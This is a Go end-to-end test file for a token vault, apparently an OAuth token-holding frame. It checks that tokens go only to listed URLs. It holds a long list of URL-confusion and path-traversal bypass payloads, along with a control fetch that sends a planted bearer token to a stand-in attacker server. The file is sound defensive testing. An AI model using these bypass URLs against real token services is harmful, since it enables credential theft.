package e2e

import (
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"tokenvault/internal/demo"
)

// hostileURL is a row of the policy's corpus; see internal/policy/corpus_test.go.
type hostileURL struct {
	URL    string `json:"url"`
	Note   string `json:"note"`
	Method string `json:"method"`
	Origin string `json:"origin"`
	Path   string `json:"path"`
	Query  string `json:"query"`
	Want   string `json:"want"`
	Reason string `json:"reason"`
}

func hostileURLs(t testing.TB) []hostileURL {
	t.Helper()
	return readJSON[[]hostileURL](t, "../internal/policy/testdata/hostile_urls.json")
}

func readJSON[T any](t testing.TB, path string) T {
	t.Helper()
	text, err := os.ReadFile(path)
	require.NoError(t, err)
	return decode[T](t, string(text))
}

// corpusBase is the page that the corpus's relative URLs are relative to.
const corpusBase = "https://app.example.com/page"

func TestBrowserParsesHostileURLsAsTheCorpusRecords(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	p := s.open("/e2e/plain.html")
	rows := hostileURLs(t)
	parsed := eval[[]hostileURL](p, `return `+js(rows)+`.map(({ url }) => {
		if (!URL.canParse(url, `+js(corpusBase)+`)) return { want: 'invalid' };
		const { protocol, origin, pathname, search } = new URL(url, `+js(corpusBase)+`);
		if (protocol !== 'http:' && protocol !== 'https:') return { origin: '' };
		return { origin, path: pathname, query: search.slice(1) };
	})`)
	require.Len(t, parsed, len(rows))
	for i, row := range rows {
		got := parsed[i]
		assert.Equal(t, row.Want == "invalid", got.Want == "invalid", "%s: does new URL throw?", row.Note)
		assert.Equal(t, [3]string{row.Origin, row.Path, row.Query}, [3]string{got.Origin, got.Path, got.Query}, "%s: %s", row.Note, row.URL)
	}
}

// verdict is what the vault's frame made of a forged message.
type verdict struct{ Type, Status, Code string }

// TestVaultJudgesHostileURLsAsTheCorpusRecords sends each URL of the corpus to the
// frame of a vault that has the corpus's configuration, as the browser writes it and
// as the attacker does. The rows that the policy allows are the control: they are
// answered as allowed, so a row that is refused is refused for its URL.
func TestVaultJudgesHostileURLsAsTheCorpusRecords(t *testing.T) {
	t.Parallel()
	corpus := readJSON[demo.Configuration](t, "../internal/policy/testdata/hostile_config.json")
	s := newSite(t, func(o *demo.Options) {
		o.Configure = func(c *demo.Configuration) {
			c.Clients, c.RedirectOrigins = corpus.Clients, corpus.RedirectOrigins
		}
	})
	p := s.open("/e2e/hostile.html")
	eval[any](p, `await tokenvault.ready; window.line = await new Line().ready`)
	rows := hostileURLs(t)
	type answer struct {
		Parsed            bool
		Credentials       bool
		Plain             bool // the attacker wrote it as the browser does
		AsWritten, AsRead verdict
	}
	answers := eval[[]answer](p, `
		const summary = ({ type, status, body }) => ({
			type, status: String(status ?? ''), code: body.startsWith('{"error"') ? JSON.parse(body).error : '',
		});
		return Promise.all(`+js(rows)+`.map(async ({ url, method }) => {
			const send = async (url) => summary(await line.ask({ url, method: method || 'GET' }));
			const asWritten = await send(url);
			if (!URL.canParse(url, `+js(corpusBase)+`)) return { parsed: false, asWritten };
			const { href, username } = new URL(url, `+js(corpusBase)+`);
			const read = href.split('#')[0];
			return { parsed: true, credentials: username !== '', plain: read === url, asWritten, asRead: await send(read) };
		}))`)
	allowed := 0
	for i, row := range rows {
		got := answers[i]
		if !got.Plain {
			assert.Equal(t, verdict{"head", "400", "url_refused"}, got.AsWritten, "%s: as the attacker writes it: %s", row.Note, row.URL)
		}
		if !got.Parsed {
			continue
		}
		want := verdict{Type: "bypass"}
		switch {
		case got.Credentials, row.Origin == "":
			want = verdict{"head", "400", "url_refused"}
		case row.Want == "deny" && row.Reason == "method_not_allowed":
			want = verdict{"head", "403", "method_not_allowed"}
		case row.Want == "deny":
			want = verdict{"head", "403", "url_refused"}
		case row.Want == "resource", row.Want == "userinfo":
			want = verdict{"head", "400", "not_signed_in"} // it would have had the token
			allowed++
		case row.Want == "token", row.Want == "revocation":
			want = verdict{"head", "400", "invalid_request"} // an endpoint's request without a form
		case row.URL == "https://login.own.example/oauth/token":
			want = verdict{"head", "403", "invalid_request"} // the policy leaves it alone, the vault says why
		case row.Want == "end_session":
			want = verdict{Type: "fail"} // sent, and there is no such server
		}
		assert.Equal(t, want, got.AsRead, "%s: %s %s", row.Note, row.Method, row.URL)
	}
	assert.Greater(t, allowed, 10, "the control: allowed URLs are answered as such")
}

// liveURLs turns the corpus and more into URLs of running servers.
func (s *site) liveURLs(t testing.TB, evil *witness) []string {
	t.Helper()
	api := strings.TrimPrefix(s.APIURL, "http://")
	name, port, _ := strings.Cut(api, ":")
	hosts := strings.NewReplacer(
		"https:", "http:", "api.example.com", api, "evil.example", evilHost+":"+evil.port,
		"/v1/items", "/v1/whoami", "/admin", "/public/echo")
	var urls []string
	for _, row := range hostileURLs(t) {
		if strings.Contains(row.URL, "api.example.com") || strings.Contains(row.URL, "evil.example") {
			urls = append(urls, hosts.Replace(row.URL))
		}
	}
	foreign := evilHost + ":" + evil.port
	return append(urls,
		"http://"+name+"."+foreign+"/v1/whoami",
		"http://"+name+".evil.localhost:"+evil.port+"/v1/whoami",
		"http://evil"+name+":"+evil.port+"/v1/whoami",
		"http://"+name+":"+evil.port+"/v1/whoami",
		"http://"+name+".:"+port+"/v1/whoami",
		"http://"+name+".:"+evil.port+"/v1/whoami",
		"http://"+api+"@"+foreign+"/v1/whoami",
		"http://"+name+"@"+foreign+"/v1/whoami",
		"//"+foreign+"/v1/whoami",
		`\\`+foreign+`\v1\whoami`,
		"http://"+foreign+"/"+s.APIURL+"/v1/whoami",
		"http://"+foreign+"?"+s.APIURL+"/v1/whoami",
		"http://"+foreign+"#"+s.APIURL+"/v1/whoami",
		s.APIURL+"/v1/../public/echo",
		s.APIURL+"/v1/%2e%2e/public/echo",
		s.APIURL+"/v1/..%2fpublic/echo",
		s.APIURL+"/v1/..;/public/echo",
		s.APIURL+"/v1/%252e%252e/public/echo",
		s.APIURL+"/public/echo?/v1/whoami",
		s.APIURL+"/public/echo#/v1/whoami",
		s.APIURL+"/V1/whoami",
		s.APIURL+"/v1",
		s.VaultURL+"/v1/whoami",
		s.AppURL+"/v1/whoami",
		s.AuthURL+"/v1/whoami",
		s.AuthURL+"/.well-known/openid-configuration",
		"blob:"+s.APIURL+"/v1/whoami",
		"filesystem:"+s.APIURL+"/temporary/v1/whoami",
		"filesystem:"+s.APIURL+"/v1/whoami",
		"data:text/plain,"+s.APIURL+"/v1/whoami",
		"ws://"+api+"/v1/whoami",
		"view-source:"+s.APIURL+"/v1/whoami",
		"javascript:"+s.APIURL+"/v1/whoami",
	)
}

// TestTokensLeaveForListedURLsOnly makes real requests to hostile URLs, each as a
// fetch of the page, as a message to the frame as the attacker writes it, and as one
// as the browser writes it. The servers have logged where tokens went.
func TestTokensLeaveForListedURLsOnly(t *testing.T) {
	t.Parallel()
	evil := newWitness(t)
	s := newHostileSite(t)
	p := s.signInHostile()
	urls := s.liveURLs(t, evil)
	s.IDP.ClearRequests()
	script := `
		window.line ??= await new Line().ready;
		const urls = ` + js(urls) + `;
		const results = [];
		for (const url of urls) {
			const written = URL.canParse(url, location.href) ? new URL(url, location.href).href.split('#')[0] : url;
			for (const init of [{}, { method: 'POST' }, { credentials: 'include', headers: { authorization: 'Bearer mine' } }]) {
				try {
					const response = await fetch(url, init);
					results.push(response.status + ' ' + await response.text() + JSON.stringify([...response.headers]));
				} catch (error) {
					results.push(String(error));
				}
			}
			results.push(textOf(await line.ask({ url, credentials: 'include' })), textOf(await line.ask({ url: written })));
		}
		return results.join('\n');`
	s.noToken(eval[string](p, script), "the answers")
	assert.Greater(t, s.tokensWentOnlyTo(evil), 10, "control: the allowed ones among the URLs had the token")
	assert.Greater(t, len(evil.requests()), 10, "control: the attacker's server was reached")
	planted := eval[string](p, `
		await fetch(`+js(evil.at(evilHost))+`, { headers: { authorization: 'Bearer planted-token-0123456789' } });
		return 'sent'`)
	require.Equal(t, "sent", planted)
	last := evil.requests()[len(evil.requests())-1]
	assert.Contains(t, last.String(), "planted-token-0123456789", "control: a token that comes here is seen")
}
